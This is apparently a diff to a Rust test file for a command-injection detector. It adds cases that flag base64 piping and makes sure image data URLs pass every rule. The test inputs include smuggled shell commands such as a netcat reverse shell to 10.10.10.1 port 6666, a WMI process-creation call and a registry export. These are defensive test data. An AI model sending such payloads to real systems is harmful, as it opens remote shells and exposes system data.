@@ -312,6 +312,8 @@ fn evasions_undone_in_a_command_word() {
         ("1;.\\\"shell whoami\n", "rce-001"),
         ("bin/visudo", "rce-001"),
         ("/usr/local/bin/chef-client", "rce-001"),
+        ("x;base64 -d /tmp/x", "rce-001"),
+        ("x|base64", "rce-001"),
         ("\"; . shell nc 10.10.10.1 6666 -e sh", "rce-004"),
         (";iwmi -class Win32_process -name Create", "rce-005"),
         ("; regedit /E c:\\x.reg HKEY_CURRENT_USER\\Key", "rce-005"),
@@ -342,6 +344,11 @@ fn evasions_undone_in_a_command_word() {
         "/search?q=1&p=2",
         "see /faq? or /help?",
         "what?/why? and how?",
+        // A data URL's base64 parameter is no command after a `;`.
+        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+        "data:text/plain;charset=utf-8;base64,SGVsbG8sIFdvcmxkIQ==",
+        "url(data:font/woff2;base64,d09GMgABAAAAA)",
+        "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">",
     ] {
         assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
     }
@@ -547,5 +554,25 @@ fn prechecks_keep_every_rule() {
         ("FOR /F %i in (x) do echo", "rce-005"),
     ] {
         assert!(ids(v).contains(&rule), "{v}: {:?}", ids(v));
+    }
+}
+
+/// (Text and SVG data URLs are left to the PHP and XSS rules, which read them as what they
+/// can carry: a script to include, markup.)
+#[test]
+fn image_data_urls_pass_every_rule_at_both_levels() {
+    use crate::detect::{inspect, Enabled, ValueKind};
+    for v in [
+        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+        "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=",
+        "data:image/webp;base64,UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==",
+    ] {
+        for enabled in [Enabled::ALL, Enabled::STRICT] {
+            let found: Vec<&str> = inspect(v.as_bytes(), ValueKind::Text, "body:avatar", enabled)
+                .into_iter()
+                .map(|f| f.rule.id)
+                .collect();
+            assert!(found.is_empty(), "{v}: {found:?}");
+        }
     }
 }
